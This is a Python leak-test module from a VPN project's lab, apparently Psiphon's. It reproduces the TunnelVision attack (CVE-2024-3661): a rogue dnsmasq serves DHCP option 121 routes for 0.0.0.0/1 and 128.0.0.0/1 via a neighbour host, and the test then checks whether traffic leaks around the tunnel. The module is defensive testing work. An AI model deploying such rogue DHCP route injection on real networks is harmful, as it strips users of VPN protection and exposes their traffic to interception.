# SPDX-FileCopyrightText: 2026 The Psiphon Linux VPN Service authors
# SPDX-License-Identifier: GPL-2.0-or-later
"""A11: the network's own DHCP server hands out routes that lead around the tunnel (TunnelVision)."""

from __future__ import annotations

import ipaddress

from psiphon_lab.addresses import LAN_A, NEIGHBOUR4
from psiphon_lab.leaktest.attack import Attack
from psiphon_lab.leaktest.model import Actor, Mode
from psiphon_lab.leaktest.trial import Trial
from psiphon_lab.namespace import LabError
from psiphon_lab.sending import volley

HALVES = ("0.0.0.0/1", "128.0.0.0/1")
# What distributions' own scripts do with the option: add every route, over the wire.
APPLY = """#!/bin/sh
[ "$1" = bound ] || [ "$1" = renew ] || exit 0
set -- $staticroutes
while [ -n "$2" ]; do ip route replace "$1" via "$2" dev "$interface" metric 5; shift 2; done
"""
DHCLIENT = """#!/bin/sh
case "$reason" in BOUND | RENEW | REBOOT | REBIND) ;; *) exit 0 ;; esac
for half in 0.0.0.0/1 128.0.0.0/1; do ip route replace $half via {attacker} dev "$interface" metric 5; done
"""


def serve_routes(trial: Trial) -> None:
    """Run a real dnsmasq on the provider's LAN; its option 121 leads to the attacker, the neighbour."""
    routes = ",".join(f"{half},{NEIGHBOUR4}" for half in HALVES)
    network = ipaddress.ip_network(LAN_A.network4)
    lease = str(trial.scratch("leases", shared=True))
    trial.spawn(
        [
            "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--port=0", "--interface=lan",
            "--bind-interfaces", "--user=root", f"--dhcp-leasefile={lease}", "--dhcp-authoritative", "--no-ping",
            f"--dhcp-range={network[10]},{network[100]},{network.netmask},10m",
            f"--dhcp-host={LAN_A.mac},{LAN_A.client4}", f"--dhcp-option=121,{routes}",
        ],
        host=trial.testbed.world.provider_a,
    )  # fmt: skip
    trial.wait(0.15)


def forget_routes(trial: Trial) -> None:
    """Remove the attack's routes from the main table at the end."""
    for half in HALVES:
        trial.undo("ip", "route", "del", half, "metric", "5")


def require_routes(trial: Trial) -> None:
    """The attack counts only if the routes arrived, except in the state that unplugs the cable again and again."""
    routes = trial.client.run(["ip", "route"]).stdout
    has_arrived = all(half in routes for half in HALVES)
    trial.say("0.0.0.0/1 and 128.0.0.0/1 came over DHCP" if has_arrived else "the routes did not come")
    if not has_arrived and trial.mode is not Mode.TRANSITION:
        raise LabError("the routes did not arrive over DHCP")


def run(trial: Trial) -> None:
    """Let udhcpc request an address; dnsmasq answers with 0.0.0.0/1 and 128.0.0.0/1 via the neighbour; then send."""
    serve_routes(trial)
    forget_routes(trial)
    script = trial.scratch("udhcpc.sh", APPLY, mode=0o755)
    trial.run(
        "timeout",
        "6",
        "udhcpc",
        "-i",
        LAN_A.interface,
        "-s",
        str(script),
        "-n",
        "-q",
        "-f",
        "-t",
        "3",
        "-T",
        "1",
        "-O",
        "121",
    )
    require_routes(trial)
    volley(trial, "with the routes")


ATTACK = Attack(
    id="A11",
    name="routes from DHCP (udhcpc)",
    reference="TunnelVision, CVE-2024-3661 (RFC 3442)",
    summary="The local network answers the computer's request for an address with routes that are more specific than "
    "the VPN's, so that traffic would leave by the network card, unencrypted.",
    actors=(Actor.PROVIDER, Actor.NEIGHBOUR),
    recognised="by source port or a token in the payload",
    control="the same packets with the same routes, without the lock",
    run=run,
    families=(4,),
    tools=("dnsmasq", "udhcpc", "timeout"),
)
